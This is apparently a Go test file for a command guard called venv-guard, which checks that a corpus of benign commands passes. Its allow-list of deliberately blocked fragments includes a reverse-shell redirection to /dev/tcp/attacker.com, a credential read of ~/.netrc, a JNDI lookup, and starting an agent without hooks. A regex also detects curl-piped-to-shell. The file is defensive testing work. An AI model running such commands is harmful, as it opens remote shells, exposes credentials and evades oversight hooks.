// Package corpus judges commands that people and agents really run, and none
// of which changes anything global: the guard must let every one of them go.
package corpus

import (
	"bufio"
	"compress/gzip"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/venv-guard/venv-guard/tests/fixture"
)

// file is a corpus beside the repository, relative to the module's directory:
// {"command": …, "source": …} a line. It is too large to be part of it.
const file = "../shared/corpora/benign.jsonl.gz"

type sample struct{ Command, Source string }

func read(t *testing.T) []sample {
	f, err := os.Open(filepath.Join(fixture.Root(t), filepath.FromSlash(file)))
	if errors.Is(err, fs.ErrNotExist) {
		t.Skip("no corpus beside the repository")
	}
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	z, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	var all []sample
	lines := bufio.NewScanner(z)
	lines.Buffer(nil, 1<<20)
	for lines.Scan() {
		var s sample
		if err := json.Unmarshal(lines.Bytes(), &s); err != nil {
			t.Fatalf("line %d: %v", len(all)+1, err)
		}
		all = append(all, s)
	}
	if err := lines.Err(); err != nil {
		t.Fatal(err)
	}
	return all
}

// accepted are commands blocked on purpose, by a piece of their text.
var accepted = []struct{ text, why string }{
	{"${$(git_current_branch)#", "zsh only: for bash a bad substitution"},
	{"#compdef wd", "zsh only: for bash a bad substitution"},
	{"echo ${variable:s/", "zsh only: for bash bad arithmetic"},
	{"${files(:h)}", "zsh only: for bash a bad substitution"},
	{"${jndi:", "for every shell a bad substitution"},
	{`${df[\"price\"].mean():.2f}`, "for every shell a bad substitution, python is never started"},
	{"'echo \"$(</dev/tcp/attacker.com/12345) >", "the inner shell finds no closing quote"},
	{`'printf "count=0; for f; do rm "$f" &&`, "the inner shell finds no closing quote"},
	{"--ignore-fail-on-non-empty {} `;`", "the substitution is a syntax error"},
	{"{ $BIN $ARG & };", "with both unset, the inner shell finds a syntax error"},
	{"watch class-pattern method-pattern", "watch hands its words to a shell, for which they are a syntax error"},
	{"python3 -m ipykernel install --user", "a kernel for every project of the user"},
	{"{var//a/,}", "no command: braces that bash and dash expand to different names"},
	{"{var/a/,}", "no command: braces that bash and dash expand to different names"},
	{`{"jsonrpc":"2.0","id":3`, "no command: braces that bash and dash expand to different names"},
	{"cat ~/.netrc", "shows credentials"},
	{`echo "::add-mask::$UV_TEST_AWS_TOKEN"`, "shows credentials, but where GitHub's runner hides them"},
	{"source <(export | sed", "runs what sed makes of the environment, which is not all known"},
	{"jq -r '.[] | @base64'", "runs commands that jq takes out of a constant"},
	{"/cmd $(python -c", "runs what python prints as a command"},
	{"This wrapper deliberately does almost nothing", "runs the program that it fetched"},
	{"&>/dev/tcp/attacker.com/12345 <&1", "runs what another host sends"},
	{"CLAUDE_CONFIG_DIR=/srv/tenant-a", "starts an agent with other settings than the guard's"},
	{"claude --safe-mode", "starts an agent without hooks"},
	{"unzip -d \"`dirname", "shells differ in what the backquotes hold"},
}

// An answer is what the guard says of one command.
type answer struct {
	sample
	verdict, reason string
	programs        int // that it can start
	took            time.Duration
}

// slowest asks the answers that took longest again, one by one, and returns
// them by the best of three times; answers stand in the order of theirs.
func slowest(site *fixture.Site, answers []answer) []answer {
	slow := slices.Clone(answers[:30])
	for i := range slow {
		for range 3 {
			slow[i].took = min(slow[i].took, ask(site, slow[i].sample).took)
		}
	}
	slices.SortFunc(slow, func(a, b answer) int { return int(b.took - a.took) })
	return slow
}

func TestBenign(t *testing.T) {
	if testing.Short() {
		t.Skip("judges some 29,000 commands")
	}
	if _, err := exec.LookPath("bash"); err != nil {
		t.Skip("no bash")
	}
	samples := read(t)
	site, err := fixture.NewSite(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	answers := judge(site, samples)

	slices.SortStableFunc(answers, func(a, b answer) int { return int(b.took - a.took) })
	var total time.Duration
	for _, a := range answers {
		total += a.took
	}
	t.Logf("%d commands, %v each", len(answers), total/time.Duration(len(answers)))
	for _, a := range slowest(site, answers) {
		t.Logf("slowest: %7v %4d programs %5d bytes %s: %s", a.took.Round(10*time.Microsecond), a.programs, len(a.Command), a.Source, short(a.Command, 100))
	}

	offenders := slices.DeleteFunc(answers, func(a answer) bool { return a.verdict == "PASS" || a.verdict == "ALLOW" })
	refused := len(offenders)
	offenders = slices.DeleteFunc(offenders, func(a answer) bool { return a.verdict == "BLOCK" && !isShell(a.Command) })
	t.Logf("%d are no shell text and rightly blocked", refused-len(offenders))
	slices.SortFunc(offenders, func(a, b answer) int { return strings.Compare(a.Source+a.Command, b.Source+b.Command) })
	offenders = slices.DeleteFunc(offenders, isAccepted)
	refused = len(offenders)
	offenders = slices.DeleteFunc(offenders, worksOnPackages)
	t.Logf("%d work on packages, toolchains, images or releases, which the corpus holds too", refused-len(offenders))
	for _, a := range offenders[:min(50, len(offenders))] {
		t.Errorf("%s %s\n\tcommand: %s\n\treason:  %s", a.verdict, a.Source, short(a.Command, 300), short(a.reason, 200))
	}
	if len(offenders) > 0 {
		t.Errorf("%d of %d commands are not let go", len(offenders), len(samples))
	}
}

// notSearchedFor are the packs whose package managers are in the corpus.
var notSearchedFor = []string{"os", "toolchains", "publish", "php", "dotnet", "r", "ocaml", "haskell", "dart"}

// worksOnPackages reports whether a command was stopped for nothing but what it
// does on purpose to packages of the operating system, shared toolchains, images
// and releases, or of languages whose package managers the corpus was not
// searched for, by a program that is written out in it.
func worksOnPackages(a answer) bool {
	named := 0
	for line := range strings.Lines(a.reason) {
		if strings.Contains(line, "cannot be told from the command") || !strings.Contains(line, "more like this") &&
			!slices.ContainsFunc(notSearchedFor, func(pack string) bool { return strings.Contains(line, "["+pack+"/") }) {
			return false
		}
		named++
	}
	return named > 0
}

// judge asks about all commands, on all cores.
func judge(site *fixture.Site, samples []sample) []answer {
	answers := make([]answer, len(samples))
	var wg sync.WaitGroup
	cores := runtime.GOMAXPROCS(0)
	for core := range cores {
		wg.Go(func() {
			for i := core; i < len(samples); i += cores {
				answers[i] = ask(site, samples[i])
			}
		})
	}
	wg.Wait()
	return answers
}

func ask(site *fixture.Site, s sample) (a answer) {
	a.sample = s
	defer func() { // one panic must not hide the other answers
		if p := recover(); p != nil {
			a.verdict, a.reason = "PANIC", fmt.Sprint(p)
		}
	}()
	begin := time.Now()
	d := site.Decide(s.Command)
	a.took, a.verdict, a.reason, a.programs = time.Since(begin), d.Verdict.String(), d.Reason(), len(d.Steps)
	return a
}

func isAccepted(a answer) bool {
	for _, acc := range accepted {
		if strings.Contains(a.Command, acc.text) {
			return true
		}
	}
	return strings.Contains(a.reason, "[remote/") && !strings.Contains(a.reason, "[remote/generated]") && runsFetched.MatchString(a.Command)
}

// runsFetched is what a script from the network looks like that goes straight
// to a shell or an interpreter: asked about or blocked on purpose.
var runsFetched = regexp.MustCompile(`(?s)\b(curl|wget)\b[^;]*\|\s*(sudo +(-E +)?)?(ba|z)?(sh|php)\b|\b((ba|z)?sh -c|ruby -e|source|bash) ["<$(]+(curl|wget)\b`)

// isShell reports whether bash can parse the text. The corpus holds snippets in
// other languages and cut ones; what the shell cannot parse either, the guard
// blocks on purpose.
func isShell(text string) bool {
	return exec.Command("bash", "-n", "-c", text).Run() == nil
}

func short(s string, n int) string {
	s = strings.ReplaceAll(s, "\n", "⏎")
	if r := []rune(s); len(r) > n {
		return string(r[:n-1]) + "…"
	}
	return s
}
